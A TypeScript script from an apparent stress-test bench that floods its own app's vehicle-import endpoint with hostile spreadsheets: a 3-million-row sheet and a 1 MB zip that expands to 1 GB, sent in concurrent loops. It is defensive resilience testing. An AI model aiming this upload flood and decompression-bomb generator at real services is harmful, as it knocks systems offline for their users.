/**
 * The flood bench's second attacker: logged in as a user who may import vehicles, it sends hostile
 * spreadsheets to `vehicleVerify.json` from `concurrency` loops back to back — a 3 000 000-row sheet
 * of tiny inline strings (the outside probe's 434 KB file) and a 1 MB file that unpacks to 1 GB —
 * and counts the answers by their message. Run as its own process (the flood bench spawns it):
 * FLOOD_BASE, FLOOD_SESSION (or FLOOD_USER and FLOOD_PASSWORD), FLOOD_CONCURRENCY, FLOOD_SECONDS in the environment;
 * prints its counts as JSON on stdout.
 */
import { encryptForLogin } from '../../apps/server/src/modules/auth/rsa.ts';
import { ZipStream } from '../../apps/server/src/modules/exports/zipStream.ts';
import { publicKeyOf } from './loginFlood.ts';

export interface UploadCounts {
  sent: number;
  byMessage: Record<string, number>;
  failed: number;
}

/** An .xlsx whose sheet XML is `piece` repeated `times` over. */
export async function xlsxOf(piece: string, times: number): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const zip = new ZipStream((c) => chunks.push(c));
  await zip.entry('xl/worksheets/sheet1.xml', async (write) => {
    await write('<worksheet><sheetData>');
    for (let i = 0; i < times; i++) await write(piece);
    await write('</sheetData></worksheet>');
  });
  zip.finish();
  return Buffer.concat(chunks);
}

export async function signIn(base: string, username: string, password: string): Promise<string> {
  const res = await fetch(`${base}/oauth/v4/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ username, password: encryptForLogin(await publicKeyOf(base), password) }),
  });
  const body = (await res.json()) as { obj?: { sessionId?: string }; msg?: string };
  if (!body.obj?.sessionId) throw new Error(`upload attacker could not log in: ${body.msg}`);
  return body.obj.sessionId;
}

export async function floodUploads(base: string, sessionId: string, concurrency: number, until: Promise<void>): Promise<UploadCounts> {
  const row = '<row><c t="inlineStr"><is><t>x</t></is></c></row>';
  const files = [await xlsxOf(row.repeat(10_000), 300), await xlsxOf(' '.repeat(1 << 20), 1024)];
  const counts: UploadCounts = { sent: 0, byMessage: {}, failed: 0 };
  let stop = false;
  void until.then(() => (stop = true));
  const loop = async (k: number) => {
    for (let i = k; !stop; i++) {
      counts.sent++;
      try {
        const form = new FormData();
        form.append('file', new Blob([new Uint8Array(files[i % files.length])]), '车辆.xlsx');
        const res = await fetch(`${base}/car/v4/api/vehicle/vehicleVerify.json`, {
          method: 'POST',
          headers: { sessionId },
          body: form,
          signal: AbortSignal.timeout(60_000),
        });
        const { msg } = (await res.json()) as { msg?: string };
        counts.byMessage[msg ?? String(res.status)] = (counts.byMessage[msg ?? String(res.status)] ?? 0) + 1;
      } catch {
        counts.failed++;
      }
    }
  };
  await Promise.all(Array.from({ length: concurrency }, (_, k) => loop(k)));
  return counts;
}

if (process.argv[1] === import.meta.filename) {
  const base = process.env.FLOOD_BASE!;
  const seconds = Number(process.env.FLOOD_SECONDS ?? 20);
  // signed in ahead by the bench when given: after the login flood this address is over its login limit
  const sessionId = process.env.FLOOD_SESSION || (await signIn(base, process.env.FLOOD_USER ?? 'admin', process.env.FLOOD_PASSWORD!));
  const counts = await floodUploads(
    base,
    sessionId,
    Number(process.env.FLOOD_CONCURRENCY ?? 4),
    new Promise((r) => setTimeout(r, seconds * 1000)),
  );
  // the attacker's own CPU: on this machine it competes with the server it attacks
  const cpu = process.cpuUsage();
  console.log(JSON.stringify({ ...counts, attackerCpuMs: Math.round((cpu.user + cpu.system) / 1000) }));
}
